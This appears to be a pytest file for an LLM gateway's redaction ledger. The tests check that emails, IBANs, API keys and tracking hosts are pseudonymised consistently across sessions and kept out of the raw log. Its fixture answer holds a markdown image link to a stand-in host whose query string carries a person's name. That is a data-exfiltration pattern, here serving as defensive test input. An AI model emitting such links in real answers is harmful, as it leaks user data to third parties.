"""What was found can be told from what else was found, in a log that has no value."""

from pathlib import Path
from typing import Any

import httpx2

from seawall.gateway.record import MOST_DETAILS, marked, ruled
from seawall.ledger import Entry, Pseudonyms, Query, tokens_of
from seawall.terms import Action, Finding, Ruling, Span, Stage, Text, Verdict
from tests.gateway.answers import says
from tests.gateway.running import Running, running
from tests.ledger.events import NOON

ANSWER = (
    "Write to Ann.Smith@Corp.com, IBAN DE89 3704 0044 0532 0130 00, "
    "key sk_live_51QmRt8ZkVw3NhYc7LpXe2Bd: ![x](https://pixel.example/a.png?b=Ann+Smith+of+Berlin)"
)
VALUES = (
    "ann.smith@corp.com",
    "DE89370400440532013000",
    "sk_live_51QmRt8ZkVw3NhYc7LpXe2Bd",
    "pixel.example",
)


def ask(gateway: Running, session: str, **more: Any) -> None:
    body = {"model": "m", "messages": [{"role": "user", "content": "Hello"}], **more}
    headers = {"x-seawall-session": session}
    httpx2.post(gateway.url + "/v1/chat/completions", json=body, headers=headers, timeout=30)


def entries_with(gateway: Running, value: str) -> list[Entry]:
    tokens = tokens_of(Pseudonyms.open(gateway.folder / ".seawall"), value)
    return list(gateway.parts.ledger.entries(Query(tokens=tokens)))


def test_values_are_found_again_in_every_session_whole_or_streamed(tmp_path: Path) -> None:
    with running(tmp_path, says(ANSWER)) as gateway:
        ask(gateway, "one")
        ask(gateway, "two", stream=True)
        gateway.model.answer = says("Bread rises because yeast makes gas.")
        ask(gateway, "three")
        for value in VALUES:
            found = entries_with(gateway, value)
            assert [entry.event.kind for entry in found] == ["text.redacted"] * 2, value
            assert len({entry.event.session for entry in found}) == 2
        assert entries_with(gateway, "bob@corp.com") == []
        log = b"\n".join(entry.leaf for entry in gateway.events()).lower()
        written = [b"corp.com", b"3704", b"sk_live", b"pixel.example", b"berlin"]
        assert [value for value in written if value in log] == []


def test_values_in_requests_tool_calls_and_checks_have_tokens_too(tmp_path: Path) -> None:
    rule = {"name": "no-mail", "kind": "pii.email", "action": "redact"}
    call = {"name": "f", "arguments": '{"to": "ann.smith@corp.com"}'}
    with running(tmp_path, says("ok"), rules=[rule]) as gateway:
        said = {"role": "user", "content": "I am ann.smith@corp.com"}
        tools = {"role": "assistant", "tool_calls": [{"id": "1", "type": "function"}]}
        tools["tool_calls"][0]["function"] = call  # type: ignore[index]
        ask(gateway, "one", messages=[said])
        ask(gateway, "two", messages=[{"role": "user", "content": "Hello"}, tools])
        check = {"text": "Mail ann.smith@corp.com", "stage": "output"}
        httpx2.post(gateway.url + "/seawall/v1/check", json=check, timeout=30)
        page = {"model": "m", "input": ["about ann.smith@corp.com"]}
        httpx2.post(gateway.url + "/v1/embeddings", json=page, timeout=30)
        found = entries_with(gateway, "ann.smith@corp.com")
        assert len({entry.event.request for entry in found}) == 4


def test_a_client_is_told_no_pseudonyms_of_values(tmp_path: Path) -> None:
    with running(tmp_path, says(ANSWER)) as gateway:
        body = {"model": "m", "messages": [{"role": "user", "content": "Hello"}]}
        answer = httpx2.post(gateway.url + "/v1/chat/completions", json=body, timeout=30)
        request = answer.headers["x-seawall-request-id"]
        told = httpx2.get(f"{gateway.url}/seawall/v1/requests/{request}", timeout=30).text
        assert "pii.email" in told
        assert "pz1." not in told
        assert any(b"pz1." in entry.leaf for entry in gateway.events(request=request))


def verdict(*findings: Finding, action: Action = Action.REDACT) -> Verdict:
    rulings = tuple(Ruling(finding, Stage.OUTPUT, action, None) for finding in findings)
    return Verdict("p", "r", rulings)


MAIL = Finding("pii.email", Span(0, 12), path="/a")
TEXTS = [Text("ann@corp.com and bob@corp.com", path="/a")]


def tokens(said: Verdict) -> list[str]:
    return [ruling.finding.token for ruling in said.rulings]


def test_what_passes_and_what_points_at_no_value_has_no_token(tmp_path: Path) -> None:
    names = Pseudonyms.open(tmp_path)
    attack = Finding("injection.override", Span(0, 12), path="/a")
    elsewhere = Finding("pii.email", Span(0, 12), path="/b")
    said = marked(verdict(attack, elsewhere, MAIL), TEXTS, names, NOON)
    assert tokens(said)[:2] == ["", ""]
    assert tokens(said)[2].startswith("pz1.default.2026q3.pii-email.")
    passed = verdict(MAIL, action=Action.ALLOW)
    assert marked(passed, TEXTS, names, NOON) is passed
    assert marked(verdict(MAIL), (), names, NOON) == verdict(MAIL)


def test_only_what_is_told_one_by_one_has_a_token_and_the_log_says_it(tmp_path: Path) -> None:
    said = marked(verdict(*[MAIL] * 40), TEXTS, Pseudonyms.open(tmp_path), NOON)
    assert sum(map(bool, tokens(said))) == MOST_DETAILS
    details = ruled("answer", said)["details"]
    assert isinstance(details, list)
    assert {detail["token"] for detail in details if isinstance(detail, dict)} == {tokens(said)[0]}


def test_the_same_value_of_two_kinds_does_not_join(tmp_path: Path) -> None:
    names = Pseudonyms.open(tmp_path)
    findings = [Finding(kind, Span(0, 12), path="/a") for kind in ("pii.email", "secret.assigned")]
    assert len(set(tokens(marked(verdict(*findings), TEXTS, names, NOON)))) == 2
